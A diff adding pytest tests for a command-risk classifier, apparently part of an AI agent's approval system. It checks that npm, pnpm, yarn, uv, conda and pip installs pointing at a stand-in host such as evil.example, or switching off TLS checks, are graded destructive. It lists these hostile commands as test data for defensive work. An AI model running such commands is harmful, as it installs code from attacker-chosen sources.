@@ -17,6 +17,7 @@ from bot.risk import RiskLevel, classify
 from bot.risk.recipes import ProjectRecipes
 from bot.standing import match, never_covered, suggest_patterns
 from bot.store import StandingApproval
+from tests.risk.both_sides import graded
 
 NOW = datetime(2026, 1, 1, tzinfo=UTC)
 R = RiskLevel
@@ -155,3 +156,87 @@ def test_a_pattern_spelling_out_the_option_and_subcommand_covers_it(ws: Path) ->
     assert not covered("git -c push.default=matching push", "git -c push.default=matching push --force", ws)
     assert covered("docker -H ssh://u@build.example ps", "docker -H ssh://u@build.example ps", ws)
     assert not covered("docker -H ssh://u@build.example ps", "docker -H ssh://u@other.example ps", ws)
+
+
+# --- options choosing or weakening the package source: chosen-source, as pip's --proxy, --cert, --trusted-host ----
+
+#: (command, its plain pattern): graded destructive on the host (chosen-source), so no approval answers it.
+CHOSEN_BY_OPTION = [
+    # npm-config(7): registry, @scope:registry, proxy, https-proxy, ca, cafile, strict-ssl (pnpm and yarn alike)
+    ("npm install @acme/x --@acme:registry=https://evil.example", "npm install"),
+    ("npm --@acme:registry=https://evil.example install @acme/x", "npm"),
+    ("npm ci --@acme:registry=https://evil.example", "npm ci"),
+    ("pnpm add @acme/x --@acme:registry=https://evil.example", "pnpm add"),
+    ("npm install lodash --https-proxy=http://evil.example", "npm install"),
+    ("npm --https-proxy=http://evil.example install lodash", "npm"),
+    ("pnpm add lodash --https-proxy=http://evil.example", "pnpm add"),
+    ("npm install lodash --proxy=http://evil.example", "npm install"),
+    ("npm install lodash --strict-ssl=false", "npm install"),
+    ("npm install lodash --strict-ssl false", "npm install"),
+    ("npm install lodash --no-strict-ssl", "npm install"),
+    ("pnpm add lodash --strict-ssl=false", "pnpm add"),
+    ("npm --strict-ssl=false install lodash", "npm"),
+    ("npm install lodash --cafile=/tmp/ca.pem", "npm install"),
+    ("npm --cafile=/tmp/ca.pem install lodash", "npm"),
+    ("pnpm install --config.registry=https://evil.example", "pnpm install"),
+    ("yarn add lodash --https-proxy http://evil.example", "yarn add"),
+    # uv CLI reference: --allow-insecure-host (alias --trusted-host), the index options (URL or directory)
+    ("uv sync --allow-insecure-host pypi.org", "uv sync"),
+    ("uv add x --allow-insecure-host pypi.org", "uv add"),
+    ("uv pip install --allow-insecure-host pypi.org x", "uv pip install"),
+    ("uv pip install --trusted-host pypi.org x", "uv pip install"),
+    ("uv add x --index-url https://evil.example/simple", "uv add"),
+    ("uv sync --default-index /tmp/idx", "uv sync"),
+    ("uv pip install --index-url /tmp/idx x", "uv pip install"),
+    # conda install -k/--insecure: "Equivalent to setting 'ssl_verify' to 'false'"; micromamba --ssl-verify
+    ("conda install --insecure numpy", "conda install"),
+    ("conda install -k numpy", "conda install"),
+    ("micromamba install --ssl-verify false numpy", "micromamba install"),
+    ("conda install -c https://evil.example/ch numpy", "conda install"),
+    # pip's own, the rule these follow
+    ("pip install --proxy http://evil.example x", "pip install"),
+    ("pip install --trusted-host evil.example x", "pip install"),
+]
+
+
+@pytest.mark.parametrize(("command", "pattern"), CHOSEN_BY_OPTION)
+def test_an_option_choosing_or_weakening_the_package_source_is_a_chosen_source(
+    command: str, pattern: str, ws: Path
+) -> None:
+    risk, details = graded(command, ws)
+    assert risk is R.DESTRUCTIVE, details
+    assert any("source the command chose" in d for d in details), details
+    assert not covered(pattern, command, ws)
+    assert not covered("*", command, ws)
+
+
+#: (command, its plain pattern, its grade): unchanged, and answered by the plain pattern.
+EVERYDAY_INSTALLS = [
+    ("npm install lodash", "npm install", R.NETWORK),
+    ("npm install --no-audit lodash", "npm install", R.NETWORK),
+    ("npm ci", "npm ci", R.NETWORK),
+    ("pnpm add -D vitest", "pnpm add", R.NETWORK),
+    ("pnpm install --frozen-lockfile", "pnpm install", R.NETWORK),
+    ("yarn add lodash", "yarn add", R.NETWORK),
+    ("uv sync", "uv sync", R.NETWORK),
+    ("uv add requests", "uv add", R.NETWORK),
+    ("uv pip install requests", "uv pip install", R.NETWORK),
+    ("conda install numpy", "conda install", R.SYSTEM),
+    ("conda install -c conda-forge numpy", "conda install", R.SYSTEM),
+    ("pip install requests", "pip install", R.NETWORK),
+    ("poetry add requests", "poetry add", R.NETWORK),
+]
+
+
+@pytest.mark.parametrize(("command", "pattern", "level"), EVERYDAY_INSTALLS)
+def test_the_everyday_install_keeps_its_grade_and_its_plain_pattern(
+    command: str, pattern: str, level: RiskLevel, ws: Path
+) -> None:
+    risk, details = graded(command, ws)
+    assert risk is level, details
+    assert covered(pattern, command, ws)
+
+
+def test_strict_ssl_left_on_is_no_chosen_source(ws: Path) -> None:
+    for command in ("npm install --strict-ssl lodash", "npm install --strict-ssl=true lodash"):
+        assert graded(command, ws)[0] is R.NETWORK, command
